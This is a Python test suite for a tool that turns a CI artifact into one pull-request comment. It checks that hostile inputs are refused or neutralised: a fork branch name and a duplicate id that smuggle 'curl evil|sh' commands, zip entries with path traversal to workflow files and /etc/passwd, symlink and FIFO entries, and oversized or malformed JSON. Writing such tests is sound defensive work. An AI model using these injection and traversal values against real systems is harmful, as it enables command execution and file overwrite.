"""One comment on a pull request, made of the artifact of a run without rights."""

from __future__ import annotations

import json
import stat
from collections.abc import Mapping
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import pytest

from casebook.forge.issue_calls import BOT
from casebook.forge.pull_comment import MARKER, comment_on_run, render_report
from casebook.forge.report_artifact import ARTIFACT, PATCH, REPORT, read_report
from casebook.forge.run_event import CheckRun, find_pull, read_run_event
from casebook.model import Finding, UserError
from casebook.pipeline.contribution import (
    LARGEST_REPORT,
    Contribution,
    DuplicateSummary,
    FixedFile,
    WriteUpSummary,
    dump_contribution,
)
from casebook.runtime.github_api import GitHub
from fake_github import TOKEN, FakeGitHub
from frozen import ROOT

EVENTS = ROOT / "tests" / "data" / "events"
SERVER = "https://github.com"
REPOSITORY = "/repos/anli/ku"
COMMENTS = f"{REPOSITORY}/issues/12/comments"
SHOWN = Contribution(
    write_ups=(WriteUpSummary("cases/qingyu.md", "qingyu", "某村疏通排水沟", "新案例"),),
    findings=(Finding("raw-html", "error", "cases/qingyu.md", 9, 1, "不能写 HTML。"),),
)


def read_event(name: str) -> CheckRun:
    """A recorded event."""
    return read_run_event(EVENTS / f"{name}.json")


def make_pull(run: CheckRun, **changes: Any) -> dict[str, Any]:
    """A pull request as the API shows it, whose newest commit is that of the run."""
    head = {"sha": run.head, "ref": run.branch, "repo": {"id": run.head_repository}}
    base = {"ref": "main", "repo": {"id": 1001, "full_name": "anli/ku"}}
    return {"number": 12, "state": "open", "head": head, "base": base} | changes


def pack(files: Mapping[str, bytes], mode: int = 0) -> bytes:
    """A zip archive."""
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
        for name, data in files.items():
            entry = ZipInfo(name)
            entry.external_attr = mode << 16
            entry.compress_type = ZIP_DEFLATED
            archive.writestr(entry, data)
    return made.getvalue()


def make_fake(
    run: CheckRun, artifact: bytes | None, comments: list[Any] | None = None
) -> FakeGitHub:
    """A GitHub with the pull request of a run, its artifact and the comments so far."""
    runs = f"{REPOSITORY}/actions/runs/{run.id}/artifacts"
    listed = [
        {"id": 3, "name": "preview", "expired": False, "size_in_bytes": 9},
        {"id": 4, "name": ARTIFACT, "expired": False, "size_in_bytes": len(artifact or b"")},
    ]
    return FakeGitHub(
        {
            f"GET {REPOSITORY}/pulls": [make_pull(run)],
            f"GET {runs}": {"artifacts": listed if artifact is not None else listed[:1]},
            f"GET {REPOSITORY}/actions/artifacts/4/zip": artifact or b"",
            f"GET {COMMENTS}": comments or [],
            f"POST {COMMENTS}": {"id": 7},
            f"PATCH {REPOSITORY}/issues/comments/7": {"id": 7},
        }
    )


def comment(run: CheckRun, fake: FakeGitHub) -> str:
    """What is done for a run."""
    return comment_on_run(run, GitHub("anli/ku", TOKEN, fake), SERVER)


def report(shown: Contribution = SHOWN) -> bytes:
    """The artifact with a report."""
    return pack({REPORT: dump_contribution(shown), PATCH: b"diff"})


@pytest.mark.parametrize("name", ["run-opened", "run-synchronize", "run-fork"])
def test_the_first_run_writes_the_comment(name: str) -> None:
    """Of the same repository, after another commit, of a fork whose branch has a hostile name."""
    run = read_event(name)
    fake = make_fake(run, report())
    assert comment(run, fake) == "合并请求 #12 的评论已更新。"
    ((call, body),) = fake.written()
    assert call == f"POST {COMMENTS}" and body["body"].startswith(MARKER)
    for part in (run.head[:10], f"{SERVER}/anli/ku/actions/runs/{run.id}", "raw-html", "新案例"):
        assert part in body["body"]
    assert "evil.example" not in body["body"]


def test_the_next_run_changes_it_and_an_equal_one_nothing() -> None:
    """Never a second comment; one by somebody else that looks the same is left alone."""
    run = read_event("run-opened")
    fake = make_fake(run, report())
    comment(run, fake)
    text = fake.written()[0][1]["body"]
    foreign = {"id": 6, "user": {"login": "tougaoren"}, "body": text}
    ours = {"id": 7, "user": {"login": BOT["name"]}, "body": text}
    gone = {"id": 8, "user": None, "body": None}
    again = make_fake(run, report(), [gone, foreign, ours])
    comment(run, again)
    assert again.written() == []
    newer = replace(run, head="2" * 40)
    changed = make_fake(newer, report(), [gone, foreign, ours])
    comment(newer, changed)
    assert [call for call, _ in changed.written()] == [f"PATCH {REPOSITORY}/issues/comments/7"]


@pytest.mark.parametrize(
    "changes",
    [
        {"head": {"sha": "3" * 40, "ref": "patch-1", "repo": {"id": 1001}}},
        {"head": {"sha": "1" * 40, "ref": "patch-1", "repo": {"id": 666}}},
        {"head": {"sha": "1" * 40, "ref": "patch-2", "repo": {"id": 1001}}},
        {"head": {"sha": "1" * 40, "ref": "patch-1", "repo": None}},
        {"base": {"ref": "main", "repo": {"id": 1, "full_name": "somebody/else"}}},
        {"base": {"ref": "release", "repo": {"id": 1001, "full_name": "anli/ku"}}},
        {"state": "closed"},
    ],
)
def test_only_the_newest_commit_of_an_open_pull_request_counts(changes: dict[str, Any]) -> None:
    """A run that is late, or whose branch another repository has too, writes nothing."""
    run = read_event("run-opened")
    fake = make_fake(run, report())
    fake.answers[f"GET {REPOSITORY}/pulls"] = [make_pull(run, **changes)]
    assert comment(run, fake).startswith("没有要评论的合并请求") and fake.written() == []


def test_a_fork_is_found_by_its_owner_and_branch() -> None:
    """Its event names no pull request; a hostile branch stays one value of the query."""
    run = read_event("run-fork")
    fake = make_fake(run, report())
    found = find_pull(run, GitHub("anli/ku", TOKEN, fake))
    assert found and found.is_fork
    (call,) = fake.calls
    assert call.path.startswith(f"{REPOSITORY}/pulls?state=open&head=tougaoren%3A%24%28curl+evil")
    assert call.path.endswith("&base=main&per_page=100&page=1")


@pytest.mark.parametrize(
    ("changes", "said"),
    [({"conclusion": "action_required"}, "等维护者批准"), ({}, "检查没有运行完")],
)
def test_a_run_without_a_report_is_explained(changes: dict[str, Any], said: str) -> None:
    """A first contribution waits for approval; a run may have failed before it had a result."""
    run = replace(read_event("run-opened"), **changes)
    fake = make_fake(run, None)
    comment(run, fake)
    assert said in fake.written()[0][1]["body"]


@pytest.mark.parametrize("name", ["run-fork-waiting", "run-fork-gone"])
def test_other_events_of_forks_are_read(name: str) -> None:
    """One that waits, one whose repository was deleted meanwhile."""
    run = read_event(name)
    fake = make_fake(run, None)
    fake.answers[f"GET {REPOSITORY}/pulls"] = []
    assert comment(run, fake).startswith("没有要评论的合并请求")


@pytest.mark.parametrize("change", [{"conclusion": "cancelled"}, {"event": "push"}])
def test_runs_that_say_nothing_are_passed_over(change: dict[str, Any]) -> None:
    """Nothing is even asked."""
    fake = FakeGitHub()
    comment(replace(read_event("run-opened"), **change), fake)
    assert fake.calls == []


GOOD = dump_contribution(SHOWN)


@pytest.mark.parametrize(
    "artifact",
    [
        pack({"../report.json": GOOD}),
        pack({REPORT: GOOD, "../../.github/workflows/x.yml": b"x"}),
        pack({REPORT: GOOD, "/etc/passwd": b"x"}),
        pack({REPORT: GOOD, "C:\\x": b"x"}),
        pack({"cases/a.md": b"x"}),
        pack({f"{REPORT}/": b""}),
        pack({REPORT: b"/etc/passwd"}, stat.S_IFLNK | 0o777),
        pack({REPORT: GOOD, PATCH: b"x"}, stat.S_IFIFO | 0o644),
        pack({REPORT: b" " * (LARGEST_REPORT + 1)}),
        pack({REPORT: b"{"}),
        pack({REPORT: b"[" * 100_000}),
        pack({REPORT: b'{"findings": 7}'}),
        pack({REPORT: GOOD.replace(b'"line": 9', b'"line": "9"')}),
        pack({REPORT: GOOD.replace(b'"error"', b'"fatal"')}),
        b"PK no zip",
        b"",
    ],
)
def test_a_hostile_artifact_is_refused(artifact: bytes) -> None:
    """In one sentence, with nothing of it in the comment; nothing is written to the disk."""
    with pytest.raises(UserError):
        read_report(artifact)
    run = read_event("run-fork")
    fake = make_fake(run, artifact)
    comment(run, fake)
    ((_, body),) = fake.written()
    assert "检查结果没有采用" in body["body"] and len(body["body"]) < 500


def test_an_artifact_twice_is_refused() -> None:
    """Which of two entries of one name counts is a matter of the reader."""
    made = BytesIO()
    with ZipFile(made, "w") as archive, pytest.warns(UserWarning):
        archive.writestr(REPORT, GOOD)
        archive.writestr(REPORT, GOOD)
    with pytest.raises(UserError):
        read_report(made.getvalue())


def test_300_kilobytes_of_text_fit_a_comment() -> None:
    """Of a title as long as that, and of as many findings."""
    title = "经验材料@all " * 25_000
    shown = Contribution(
        (WriteUpSummary("cases/a.md", "a", title, title),) * 3,
        findings=(Finding("raw-html", "error", title, 1, 1, title),) * 300,
    )
    run = read_event("run-fork")
    fake = make_fake(run, report(shown))
    comment(run, fake)
    body = fake.written()[0][1]["body"]
    assert len(body) < 65_536 and "@all" not in body


def test_what_is_to_be_copied_is_made_here() -> None:
    """Ids that are none get no command, a patch of anything but cases is not shown."""
    pairs = (
        DuplicateSummary("a", "x; curl evil|sh", "近似", 97.0),
        DuplicateSummary("a", "b", "", 1),
    )
    for name, mode in ((".github/workflows/x.yml", ""), ("cases/x.md", "new file mode 120000\n")):
        patch = (
            f"diff --git a/{name} b/{name}\n{mode}--- a/{name}\n+++ b/{name}\n@@ -1 +1 @@\n-a\n+b\n"
        )
        shown = Contribution(duplicates=pairs, fixes=(FixedFile(name, name),), patch=patch)
        page = render_report(shown, "1" * 40, "link")
        assert "--merge a b --library cases" in page and "--merge a 'x" not in page
        assert "@@ -1 +1 @@" not in page
    patch = patch.replace("new file mode 120000\n", "")
    assert "@@ -1 +1 @@" in render_report(replace(shown, patch=patch), "1" * 40, "link")


def test_a_document_that_nobody_imported_is_no_dead_end() -> None:
    """The comment says what has to be done before the site can have it."""
    unread = Finding("source-unread", "warning", "cases/sources/a.txt", 1, 1, "还没有导入。")
    page = render_report(Contribution(findings=(unread,)), "1" * 40, "link")
    assert "make site" in page and "make site" not in render_report(SHOWN, "1" * 40, "link")


def test_an_event_of_another_kind_is_refused(tmp_path: Path) -> None:
    """One sentence for what is no finished run."""
    path = tmp_path / "event.json"
    for text in ("{", "[]", "{}", json.dumps({"workflow_run": {"id": 1}, "repository": {}})):
        path.write_text(text, encoding="utf-8")
        with pytest.raises(UserError, match="不是 workflow_run 事件"):
            read_run_event(path)
